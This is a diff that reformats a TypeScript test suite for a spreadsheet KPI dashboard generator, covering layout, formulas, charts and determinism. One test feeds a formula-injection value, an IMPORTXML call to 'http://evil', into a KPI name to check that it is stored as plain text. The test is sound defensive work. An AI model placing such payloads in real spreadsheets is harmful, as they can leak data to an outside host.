@@ -3,12 +3,26 @@ import { HyperFormula } from 'hyperformula';
 import { DISPLAY_ONLY_FUNCTIONS } from '../../../emulator';
 import { ensureEngineFunctions } from '../../../emulator/engine/workbook-engine';
 import { buildDashboardPlan, dashboardsFor, type DashboardInput } from '../../../src/core/dashboard/build';
-import { calcColumn, FIRST_KPI_ROW, SERIES_COLUMN, TABLE_HEADER_ROW, visibleColumn, WINDOW } from '../../../src/core/dashboard/layout';
+import {
+  calcColumn,
+  FIRST_KPI_ROW,
+  SERIES_COLUMN,
+  TABLE_HEADER_ROW,
+  visibleColumn,
+  WINDOW,
+} from '../../../src/core/dashboard/layout';
 import type { Block, ChartSpec, SheetPlan } from '../../../src/core/dashboard/plan';
 import type { Kpi, KpiSource, Objective } from '../../../src/core/kpi/model';
 import { CATALOG } from '../../../src/functions/catalog';
 
-const objective = (id: string, level: Objective['level'] = 'strategic'): Objective => ({ id, title: `Objectif ${id}`, description: '', horizon: '2026-12-31', level, owner: '' });
+const objective = (id: string, level: Objective['level'] = 'strategic'): Objective => ({
+  id,
+  title: `Objectif ${id}`,
+  description: '',
+  horizon: '2026-12-31',
+  level,
+  owner: '',
+});
 
 const kpi = (id: string, over: Partial<Kpi> = {}): Kpi => ({
   id,
@@ -46,13 +60,15 @@ const blockOf = (s: SheetPlan, id: string): Block => {
 };
 const cellOf = (s: SheetPlan, row: number, column: number): string | number => {
   for (const b of s.blocks) {
-    if (row >= b.row && row < b.row + b.rows && column >= b.column && column < b.column + b.columns) return b.values[row - b.row][column - b.column];
+    if (row >= b.row && row < b.row + b.rows && column >= b.column && column < b.column + b.columns)
+      return b.values[row - b.row][column - b.column];
   }
   return '';
 };
 const formatOf = (s: SheetPlan, row: number, column: number): string => {
   for (const b of s.blocks) {
-    if (row >= b.row && row < b.row + b.rows && column >= b.column && column < b.column + b.columns) return b.numberFormats[row - b.row][column - b.column];
+    if (row >= b.row && row < b.row + b.rows && column >= b.column && column < b.column + b.columns)
+      return b.numberFormats[row - b.row][column - b.column];
   }
   return '';
 };
@@ -63,7 +79,11 @@ const allFormulas = (s: SheetPlan): string[] => [
 ];
 
 describe('one dashboard per audience level that has KPIs, or one overall', () => {
-  const kpis = [kpi('a', { level: 'operational' }), kpi('b', { level: 'strategic' }), kpi('c', { level: 'operational' })];
+  const kpis = [
+    kpi('a', { level: 'operational' }),
+    kpi('b', { level: 'strategic' }),
+    kpi('c', { level: 'operational' }),
+  ];
   test.each([
     ['fr', 'by_level', ['strategic', 'operational'], ['Direction', 'Équipes']],
     ['en', 'by_level', ['strategic', 'operational'], ['Leadership', 'Teams']],
@@ -75,7 +95,9 @@ describe('one dashboard per audience level that has KPIs, or one overall', () =>
     expect(plan.sheets.map((s) => s.name)).toEqual(names);
   });
   test('all three levels have their names', () => {
-    const plan = buildDashboardPlan(input([kpi('a', { level: 'tactical' }), kpi('b', { level: 'strategic' }), kpi('c', { level: 'operational' })]));
+    const plan = buildDashboardPlan(
+      input([kpi('a', { level: 'tactical' }), kpi('b', { level: 'strategic' }), kpi('c', { level: 'operational' })]),
+    );
     expect(plan.sheets.map((s) => [s.key, s.name, s.kpiIds])).toEqual([
       ['strategic', 'Direction', ['b']],
       ['tactical', 'Managers', ['a']],
@@ -83,10 +105,27 @@ describe('one dashboard per audience level that has KPIs, or one overall', () =>
     ]);
   });
   test('overall: strategic first, then tactical, then operational; input order within', () => {
-    expect(dashboardsFor([kpi('a', { level: 'operational' }), kpi('b', { level: 'tactical' }), kpi('c', { level: 'strategic' }), kpi('d', { level: 'tactical' })], 'overall')[0].kpis.map((k) => k.id)).toEqual(['c', 'b', 'd', 'a']);
+    expect(
+      dashboardsFor(
+        [
+          kpi('a', { level: 'operational' }),
+          kpi('b', { level: 'tactical' }),
+          kpi('c', { level: 'strategic' }),
+          kpi('d', { level: 'tactical' }),
+        ],
+        'overall',
+      )[0].kpis.map((k) => k.id),
+    ).toEqual(['c', 'b', 'd', 'a']);
   });
   test('KPIs grouped by objective, in the objectives order, unlinked ones last', () => {
-    const plan = buildDashboardPlan(input([kpi('a', { objectiveId: '' }), kpi('b', { objectiveId: 'o2' }), kpi('c', { objectiveId: 'o1' }), kpi('d', { objectiveId: 'o2' })]));
+    const plan = buildDashboardPlan(
+      input([
+        kpi('a', { objectiveId: '' }),
+        kpi('b', { objectiveId: 'o2' }),
+        kpi('c', { objectiveId: 'o1' }),
+        kpi('d', { objectiveId: 'o2' }),
+      ]),
+    );
     expect(plan.sheets[0].kpiIds).toEqual(['c', 'b', 'd', 'a']);
     expect(cellOf(plan.sheets[0], FIRST_KPI_ROW, visibleColumn('objective'))).toBe('Objectif o1');
     expect(cellOf(plan.sheets[0], FIRST_KPI_ROW + 3, visibleColumn('objective'))).toBe('');
@@ -113,11 +152,15 @@ describe('a table of KPI sets → blocks, formulas and charts', () => {
     expect(cellOf(s, r, visibleColumn('name'))).toBe('CA');
     expect(cellOf(s, r, visibleColumn('target'))).toBe(1000);
     expect(cellOf(s, r, visibleColumn('current'))).toBe('=IF($O$6=0,"",INDEX(Ventes!D2:D25,$P$6,1))');
-    expect(cellOf(s, r, calcColumn('lastPos'))).toBe('=IF($O$6=0,"",ARRAYFORMULA(LARGE(IF(ISNUMBER(Ventes!D2:D25),SEQUENCE(ROWS(Ventes!D2:D25))),1)))');
+    expect(cellOf(s, r, calcColumn('lastPos'))).toBe(
+      '=IF($O$6=0,"",ARRAYFORMULA(LARGE(IF(ISNUMBER(Ventes!D2:D25),SEQUENCE(ROWS(Ventes!D2:D25))),1)))',
+    );
     expect(cellOf(s, r, visibleColumn('status'))).toBe(
       '=IF(OR($D$6="",$E$6=""),"Pas de données",IF($AC$6*($D$6-$E$6)>=0,"En bonne voie",IF($F$6="","En retard",IF(TODAY()>=DATE(2026,12,31),"En retard",IF($AB$6-$F$6<=0.1,"En bonne voie",IF($AB$6-$F$6<=0.25,"À surveiller","En retard"))))))',
     );
-    expect(cellOf(s, r, visibleColumn('vsPrevious'))).toBe('=IF(OR($D$6="",$T$6=""),"",IF($T$6=0,"",($D$6-$T$6)/ABS($T$6)))');
+    expect(cellOf(s, r, visibleColumn('vsPrevious'))).toBe(
+      '=IF(OR($D$6="",$T$6=""),"",IF($T$6=0,"",($D$6-$T$6)/ABS($T$6)))',
+    );
     expect(cellOf(s, r, visibleColumn('sparkline'))).toBe('=SPARKLINE($AI$6:$AI$29)');
     expect(cellOf(s, r, calcColumn('benchmark'))).toBe(800);
     expect(cellOf(s, r, calcColumn('direction'))).toBe(1);
@@ -131,7 +174,9 @@ describe('a table of KPI sets → blocks, formulas and charts', () => {
       ['COLUMN', 'progress', null],
       ['LINE', 'trend', 'ca'],
     ]);
-    expect(chartsOf(s, 'trend')[0].ranges).toEqual([{ sheet: 'self', row: TABLE_HEADER_ROW, column: SERIES_COLUMN + 1, rows: 1 + WINDOW.monthly, columns: 3 }]);
+    expect(chartsOf(s, 'trend')[0].ranges).toEqual([
+      { sheet: 'self', row: TABLE_HEADER_ROW, column: SERIES_COLUMN + 1, rows: 1 + WINDOW.monthly, columns: 3 },
+    ]);
     expect(chartsOf(s, 'progress')[0].ranges).toEqual([
       { sheet: 'self', row: TABLE_HEADER_ROW, column: visibleColumn('name'), rows: 2, columns: 1 },
       { sheet: 'self', row: TABLE_HEADER_ROW, column: visibleColumn('progress'), rows: 2, columns: 1 },
@@ -142,7 +187,9 @@ describe('a table of KPI sets → blocks, formulas and charts', () => {
 
   test('without a target, the line chart has no target line', () => {
     const [s] = buildDashboardPlan(input([kpi('x', { target: null })])).sheets;
-    expect(chartsOf(s, 'trend')[0].ranges).toEqual([{ sheet: 'self', row: TABLE_HEADER_ROW, column: SERIES_COLUMN + 1, rows: 1 + WINDOW.monthly, columns: 2 }]);
+    expect(chartsOf(s, 'trend')[0].ranges).toEqual([
+      { sheet: 'self', row: TABLE_HEADER_ROW, column: SERIES_COLUMN + 1, rows: 1 + WINDOW.monthly, columns: 2 },
+    ]);
   });
 
   test('a source with categories adds a bar chart over the source itself', () => {
@@ -160,7 +207,9 @@ describe('a table of KPI sets → blocks, formulas and charts', () => {
     expect(chartsOf(s, 'trend')).toEqual([]);
     expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('vsPrevious'))).toBe('');
     expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('vsLastYear'))).toBe('');
-    expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('sparkline'))).toBe(`=SPARKLINE('Canaux 2026'!C2:C5,{"charttype","column"})`);
+    expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('sparkline'))).toBe(
+      `=SPARKLINE('Canaux 2026'!C2:C5,{"charttype","column"})`,
+    );
   });
 
   test('a single-cell KPI reads the live cell and the history sheet by its current name', () => {
@@ -171,11 +220,15 @@ describe('a table of KPI sets → blocks, formulas and charts', () => {
     expect(cellOf(s, FIRST_KPI_ROW, calcColumn('n'))).toBe(
       `=IFERROR(ARRAYFORMULA(SUM(IF(('Boussole · Historique'!A2:A="cell")*ISNUMBER('Boussole · Historique'!D2:D)*('Boussole · Historique'!B2:B<>$AE$6),1,0))),0)`,
     );
-    expect(cellOf(s, FIRST_KPI_ROW, calcColumn('currentPeriod'))).toBe('=YEAR(TODAY()-WEEKDAY(TODAY(),2)+4)&"-W"&RIGHT("0"&ISOWEEKNUM(TODAY()),2)');
+    expect(cellOf(s, FIRST_KPI_ROW, calcColumn('currentPeriod'))).toBe(
+      '=YEAR(TODAY()-WEEKDAY(TODAY(),2)+4)&"-W"&RIGHT("0"&ISOWEEKNUM(TODAY()),2)',
+    );
   });
 
   test('many KPIs: one table row each, charts in a grid of two below the table, never overlapping', () => {
-    const kpis = Array.from({ length: 7 }, (_, i) => kpi(`k${i}`, i === 3 ? { source: { kind: 'range', values: 'C!B2:B5', categories: 'C!A2:A5' } } : {}));
+    const kpis = Array.from({ length: 7 }, (_, i) =>
+      kpi(`k${i}`, i === 3 ? { source: { kind: 'range', values: 'C!B2:B5', categories: 'C!A2:A5' } } : {}),
+    );
     const [s] = buildDashboardPlan(input(kpis)).sheets;
     expect(blockOf(s, 'table').rows).toBe(8);
     expect(blockOf(s, 'series').columns).toBe(4 * 7);
@@ -183,8 +236,14 @@ describe('a table of KPI sets → blocks, formulas and charts', () => {
     expect(s.charts.map((c) => c.type)).toEqual(['COLUMN', 'LINE', 'LINE', 'LINE', 'BAR', 'LINE', 'LINE', 'LINE']);
     const lastRow = FIRST_KPI_ROW + 6;
     for (const c of s.charts) expect(c.position.row).toBeGreaterThan(lastRow);
-    const boxes = s.charts.map((c) => ({ top: c.position.row, left: c.position.column * 1000 + c.position.offsetX, w: Number(c.options.width) }));
-    for (let i = 0; i < boxes.length; i++) for (let j = i + 1; j < boxes.length; j++) expect([boxes[i].top, boxes[i].left]).not.toEqual([boxes[j].top, boxes[j].left]);
+    const boxes = s.charts.map((c) => ({
+      top: c.position.row,
+      left: c.position.column * 1000 + c.position.offsetX,
+      w: Number(c.options.width),
+    }));
+    for (let i = 0; i < boxes.length; i++)
+      for (let j = i + 1; j < boxes.length; j++)
+        expect([boxes[i].top, boxes[i].left]).not.toEqual([boxes[j].top, boxes[j].left]);
     expect(s.rows).toBeGreaterThanOrEqual(Math.max(...s.charts.map((c) => c.position.row)));
   });
 });
@@ -192,9 +251,19 @@ describe('a table of KPI sets → blocks, formulas and charts', () => {
 describe('the rules every plan keeps', () => {
   const kpis = [
     kpi('a'),
-    kpi('b', { level: 'tactical', unit: '%', direction: 'lower', source: { kind: 'range', values: 'C!B2:B5', categories: 'C!A2:A5' } }),
+    kpi('b', {
+      level: 'tactical',
+      unit: '%',
+      direction: 'lower',
+      source: { kind: 'range', values: 'C!B2:B5', categories: 'C!A2:A5' },
+    }),
     kpi('c', { level: 'operational', source: { kind: 'cell', ref: 'S!A1' }, frequency: 'quarterly' }),
-    kpi('d', { source: { kind: 'range', values: 'Ventes!B2:M2', dates: 'Ventes!B1:M1' }, frequency: 'daily', unit: 'other', unitLabel: 'visites' }),
+    kpi('d', {
+      source: { kind: 'range', values: 'Ventes!B2:M2', dates: 'Ventes!B1:M1' },
+      frequency: 'daily',
+      unit: 'other',
+      unitLabel: 'visites',
+    }),
     kpi('e', { source: { kind: 'range', values: 'Ventes!E2:E' }, frequency: 'weekly', unit: 'days' }),
     kpi('f', { source: { kind: 'cell', ref: "'Saisie hebdo'!C3" }, frequency: 'weekly', level: 'tactical' }),
   ];
@@ -208,23 +277,49 @@ describe('the rules every plan keeps', () => {
     for (const c of sheets.flatMap((s) => s.charts)) {
       expect(['LINE', 'COLUMN', 'BAR']).toContain(c.type);
       expect(c.options).not.toHaveProperty('is3D');
-      expect({ role: c.role, type: c.type }).toEqual({ role: c.role, type: { trend: 'LINE', progress: 'COLUMN', categories: 'BAR' }[c.role] });
+      expect({ role: c.role, type: c.type }).toEqual({
+        role: c.role,
+        type: { trend: 'LINE', progress: 'COLUMN', categories: 'BAR' }[c.role],
+      });
     }
   });
 
   test('built-in functions only, each one HyperFormula computes too; SPARKLINE alone in its cell', () => {
     ensureEngineFunctions();
     const custom = new Set(CATALOG.map((f) => f.name));
-    const engine = new Set(HyperFormula.getRegisteredFunctionNames('enGB').filter((n) => !custom.has(n) && !DISPLAY_ONLY_FUNCTIONS.includes(n)));
+    const engine = new Set(
+      HyperFormula.getRegisteredFunctionNames('enGB').filter(
+        (n) => !custom.has(n) && !DISPLAY_ONLY_FUNCTIONS.includes(n),
+      ),
+    );
     const used = new Set<string>();
     for (const s of sheets) {
       for (const f of allFormulas(s)) {
-        const names = [...f.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, 'S!').matchAll(/([A-Z][A-Z0-9.]*)\(/g)].map((m) => m[1]);
+        const names = [
+          ...f
+            .replace(/"(?:[^"]|"")*"/g, '""')
+            .replace(/'(?:[^']|'')*'!/g, 'S!')
+            .matchAll(/([A-Z][A-Z0-9.]*)\(/g),
+        ].map((m) => m[1]);
         for (const n of names) used.add(n);
         if (names.includes('SPARKLINE')) expect(f).toMatch(/^=SPARKLINE\([^()]*\)$/);
       }
     }
-    expect([...used]).toEqual(expect.arrayContaining(['SEQUENCE', 'LARGE', 'SMALL', 'INDEX', 'TODAY', 'ISOWEEKNUM', 'EOMONTH', 'EDATE', 'COUNTIF', 'REPT', 'SPARKLINE']));
+    expect([...used]).toEqual(
+      expect.arrayContaining([
+        'SEQUENCE',
+        'LARGE',
+        'SMALL',
+        'INDEX',
+        'TODAY',
+        'ISOWEEKNUM',
+        'EOMONTH',
+        'EDATE',
+        'COUNTIF',
+        'REPT',
+        'SPARKLINE',
+      ]),
+    );
     const unknown = [...used].filter((n) => n !== 'SPARKLINE' && !engine.has(n));
     expect(unknown).toEqual([]);
     for (const n of used) expect(custom.has(n)).toBe(false);
@@ -234,16 +329,32 @@ describe('the rules every plan keeps', () => {
     const [s] = buildDashboardPlan(input([kpi('x', { name: '=IMPORTXML("http://evil", "//a")' })])).sheets;
     expect(cellOf(s, FIRST_KPI_ROW, 1)).toBe('=IMPORTXML("http://evil", "//a")');
     expect(formatOf(s, FIRST_KPI_ROW, 1)).toBe('@');
-    for (const s2 of sheets) for (const b of s2.blocks) b.values.forEach((row, i) => row.forEach((v, j) => {
-      if (typeof v === 'string' && v !== '' && !v.startsWith('=')) expect(b.numberFormats[i][j]).toBe('@');
-    }));
+    for (const s2 of sheets)
+      for (const b of s2.blocks)
+        b.values.forEach((row, i) =>
+          row.forEach((v, j) => {
+            if (typeof v === 'string' && v !== '' && !v.startsWith('=')) expect(b.numberFormats[i][j]).toBe('@');
+          }),
+        );
   });
 
   test('same input, same plan; the plan depends on the KPIs, not on how many rows their data has', () => {
-    expect(buildDashboardPlan(input(kpis, { historySheet: 'H' }))).toEqual(buildDashboardPlan(input(kpis, { historySheet: 'H' })));
-    const short = buildDashboardPlan(input([kpi('a', { source: { kind: 'range', values: 'V!B2:B37', dates: 'V!A2:A37' } })]));
-    const long = buildDashboardPlan(input([kpi('a', { source: { kind: 'range', values: 'V!B2:B3651', dates: 'V!A2:A3651' } })]));
-    const shape = (p: typeof short) => p.sheets.map((s) => ({ blocks: s.blocks.map((b) => [b.id, b.rows, b.columns]), charts: s.charts.length, rules: s.conditionalFormats.length, styles: s.styles.length }));
+    expect(buildDashboardPlan(input(kpis, { historySheet: 'H' }))).toEqual(
+      buildDashboardPlan(input(kpis, { historySheet: 'H' })),
+    );
+    const short = buildDashboardPlan(
+      input([kpi('a', { source: { kind: 'range', values: 'V!B2:B37', dates: 'V!A2:A37' } })]),
+    );
+    const long = buildDashboardPlan(
+      input([kpi('a', { source: { kind: 'range', values: 'V!B2:B3651', dates: 'V!A2:A3651' } })]),
+    );
+    const shape = (p: typeof short) =>
+      p.sheets.map((s) => ({
+        blocks: s.blocks.map((b) => [b.id, b.rows, b.columns]),
+        charts: s.charts.length,
+        rules: s.conditionalFormats.length,
+        styles: s.styles.length,
+      }));
     expect(shape(short)).toEqual(shape(long));
   });
 
